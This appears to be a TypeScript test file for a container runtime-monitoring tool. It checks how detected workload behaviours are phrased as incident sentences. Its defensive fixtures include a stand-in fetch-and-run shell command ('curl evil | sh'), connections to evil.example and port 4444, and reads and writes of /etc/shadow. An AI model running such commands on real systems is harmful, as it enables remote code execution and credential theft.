import { describe, expect, it } from 'vitest';
import { workload } from '../test/fakes/behaviours.ts';
import type { Behaviour } from './behaviour.ts';
import type { Approval } from './incident.ts';
import { incidentSentence, type Told, workloadName } from './sentence.ts';
import type { DriftReason } from './verdict.ts';

const nginx = { root: 'entrypoint', lineage: ['/entry.sh', '/usr/sbin/nginx'] } as const;
const below = (...exes: string[]): Pick<Behaviour, 'root' | 'lineage'> => ({
  ...nginx,
  lineage: [...nginx.lineage, ...exes],
});
const told = (
  behaviour: Behaviour,
  because: DriftReason = 'new-program',
  more: Partial<Told> = {},
): Told => ({ behaviour, because, ...more });
const approval: Approval = { fingerprint: 'x', version: 1, signedBy: 'alice', maxMode: 'kill' };

const dropped = told({ ...below('/tmp/x'), kind: 'exec', args: ['/tmp/x'], origin: 'upper' });
const shell = told({
  ...below('/bin/sh'),
  kind: 'exec',
  args: ['sh', '-c', 'curl evil | sh'],
  origin: 'image',
});
const callHome = told({
  ...below('/tmp/x'),
  kind: 'connect',
  transport: 'tcp',
  peer: 'localhost',
  port: 4444,
});

describe('incidentSentence', () => {
  it.each<[string, Told, readonly Told[], string]>([
    [
      'a dropped file',
      dropped,
      [callHome],
      '`nginx` of shop/cart started `/tmp/x` (not in the image), which connected to localhost:4444',
    ],
    [
      'what every program does is left out',
      dropped,
      [
        told({ ...below('/tmp/x'), kind: 'load', path: '/lib/libc.so.6', origin: 'image' }),
        told({ ...below('/tmp/x'), kind: 'open', path: '/etc/ld.so.cache', access: 'read' }),
        told({ ...below('/tmp/x'), kind: 'open', path: '/etc/shadow', access: 'read' }),
      ],
      '`nginx` of shop/cart started `/tmp/x` (not in the image), which read `/etc/shadow`',
    ],
    ['a shell', shell, [], '`nginx` of shop/cart started `/bin/sh -c curl evil | sh`'],
    [
      'a shell that starts more',
      shell,
      [told({ ...below('/bin/sh', '/usr/bin/curl'), kind: 'exec', args: ['curl'] })],
      '`nginx` of shop/cart started `/bin/sh -c curl evil | sh`, which started `/usr/bin/curl`',
    ],
    [
      'something apart that happened together',
      dropped,
      [told({ ...nginx, kind: 'open', path: '/etc/shadow', access: 'write' })],
      '`nginx` of shop/cart started `/tmp/x` (not in the image); `nginx` wrote `/etc/shadow`',
    ],
    [
      'what it came for before its tools',
      shell,
      [
        told({ ...below('/bin/sh', '/usr/bin/getent'), kind: 'exec', args: ['getent'] }),
        told({
          ...below('/bin/sh', '/usr/bin/getent'),
          kind: 'connect',
          transport: 'udp',
          peer: '10.0.0.2',
          port: 53,
        }),
        told({ ...below('/bin/sh', '/usr/bin/curl'), kind: 'exec', args: ['curl'] }),
        told({
          ...below('/bin/sh', '/usr/bin/curl'),
          kind: 'connect',
          transport: 'tcp',
          peer: '203.0.113.7',
          port: 80,
        }),
        told({ ...below('/bin/sh', '/tmp/x'), kind: 'exec', args: ['/tmp/x'], origin: 'upper' }),
      ],
      '`nginx` of shop/cart started `/bin/sh -c curl evil | sh`, which started `/tmp/x` (not in the image) and connected to 203.0.113.7:80',
    ],
    [
      'two who came in from outside',
      told({ root: 'interactive', lineage: ['/bin/sh'], kind: 'exec', args: ['sh'] }),
      [told({ root: 'interactive', lineage: ['/bin/ls'], kind: 'exec', args: ['ls'] })],
      'somebody who entered shop/cart started `/bin/sh`; somebody who entered started `/bin/ls`',
    ],
    [
      'an act of a known program',
      told({ ...nginx, kind: 'connect', transport: 'tcp', peer: 'evil.example', port: 443 }, 'new-peer', {
        nearest: 'api.example:443',
      }),
      [],
      '`nginx` of shop/cart connected to evil.example:443; known is `api.example:443`',
    ],
    [
      'new arguments',
      told({ ...nginx, kind: 'exec', args: ['nginx', '-x'] }, 'new-arguments', { nearest: 'nginx -g' }),
      [],
      '`nginx` of shop/cart was started with new arguments: `nginx -x`; known is `nginx -g`',
    ],
    [
      'a replaced file',
      told({ ...nginx, kind: 'exec', args: [], origin: 'upper' }, 'foreign-origin'),
      [],
      '`nginx` of shop/cart was replaced: it now runs from another file (not in the image)',
    ],
    [
      'a hook',
      told({ ...nginx, kind: 'exec', args: [], env: ['LD_PRELOAD'] }, 'new-environment'),
      [],
      '`nginx` of shop/cart was started with LD_PRELOAD set',
    ],
    [
      'a session by hand',
      told({ root: 'interactive', lineage: ['/bin/sh'], kind: 'exec', args: ['sh'] }),
      [],
      'somebody who entered shop/cart started `/bin/sh`',
    ],
    [
      'a session of somebody who is known',
      told({ root: 'interactive', lineage: ['/bin/sh'], kind: 'exec', args: ['sh'] }, 'never-learnable', {
        caller: 'uid:1000',
      }),
      [],
      'somebody (uid:1000) who entered shop/cart started `/bin/sh`',
    ],
    [
      'below such a session',
      told({ root: 'interactive', lineage: ['/bin/sh', '/bin/ls'], kind: 'exec', args: ['ls'] }),
      [],
      '`sh`, run by somebody who entered shop/cart, started `/bin/ls`',
    ],
    [
      'another entrypoint',
      told({ root: 'entrypoint', lineage: ['/x'], kind: 'exec', args: ['x'] }),
      [],
      'shop/cart was started with `/x`',
    ],
    [
      'a probe',
      told({ root: 'probe', lineage: ['/x'], kind: 'exec', args: ['x'] }),
      [],
      'a probe of shop/cart started `/x`',
    ],
    [
      'what a sweep found',
      told({ ...below('/tmp/x'), kind: 'exec', args: [], origin: 'memory' }, 'new-program', { found: true }),
      [],
      '`/tmp/x` (in memory only) was found running in shop/cart',
    ],
    [
      'a library',
      told({ ...nginx, kind: 'load', path: '/tmp/x.so', origin: 'upper' }, 'never-learnable'),
      [],
      '`nginx` of shop/cart loaded code from `/tmp/x.so` (not in the image)',
    ],
    [
      'a privilege',
      told({ ...nginx, kind: 'privilege', privilege: 'setns', detail: 'net' }, 'never-learnable'),
      [],
      '`nginx` of shop/cart entered another namespace (net)',
    ],
    [
      'a module that the kernel looked for by itself',
      told(
        { ...nginx, kind: 'privilege', privilege: 'module-load', detail: 'requested fs-xfs' },
        'new-privilege',
      ),
      [],
      '`nginx` of shop/cart made the kernel look for a module (requested fs-xfs)',
    ],
    [
      'a listener',
      told({ ...nginx, kind: 'listen', transport: 'tcp', port: -1 }, 'new-listener'),
      [],
      '`nginx` of shop/cart listened on tcp port drawn by the kernel',
    ],
  ])('tells of %s', (_name, opening, others, sentence) => {
    expect(incidentSentence(workload, opening, others)).toBe(sentence);
  });

  it('combines at most three drifts', () => {
    const files = ['/a', '/b', '/c', '/d'].map((path) => told({ ...below('/tmp/x'), kind: 'delete', path }));
    expect(incidentSentence(workload, dropped, files)).toBe(
      '`nginx` of shop/cart started `/tmp/x` (not in the image), which deleted `/a` and deleted `/b`',
    );
  });

  it('says what was approved, and by whom', () => {
    expect(incidentSentence(workload, dropped, [], approval)).toMatch(
      /; version 1, approved by alice, does not know this$/,
    );
    const near = told({ ...nginx, kind: 'listen', transport: 'tcp', port: 81 }, 'new-listener', {
      nearest: 'tcp:80',
    });
    expect(incidentSentence(workload, near, [], approval)).toMatch(
      /; version 1, approved by alice, knows `tcp:80`$/,
    );
  });

  it('shows nothing of the watched world unescaped', () => {
    const evil = '/tmp/\u001b[2J`\u202e';
    const opening = told({ ...below(evil), kind: 'exec', args: [evil], origin: 'upper' });
    const sentence = incidentSentence({ ...workload, owner: `Deployment/${evil}` }, opening, [
      told({ ...below(evil), kind: 'resolve', name: evil }),
    ]);
    expect(sentence).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(sentence.split('`')).toHaveLength(8);
  });
});

describe('workloadName', () => {
  it.each([
    [{}, 'shop/cart'],
    [{ container: 'proxy' }, 'shop/cart (proxy)'],
    [{ namespace: '', owner: 'unit/nginx.service' }, 'unit/nginx.service'],
    [{ namespace: '', owner: 'cgroup/demo/copy' }, 'cgroup/demo/copy'],
  ])('%j → %s', (change, name) => expect(workloadName({ ...workload, ...change })).toBe(name));
});
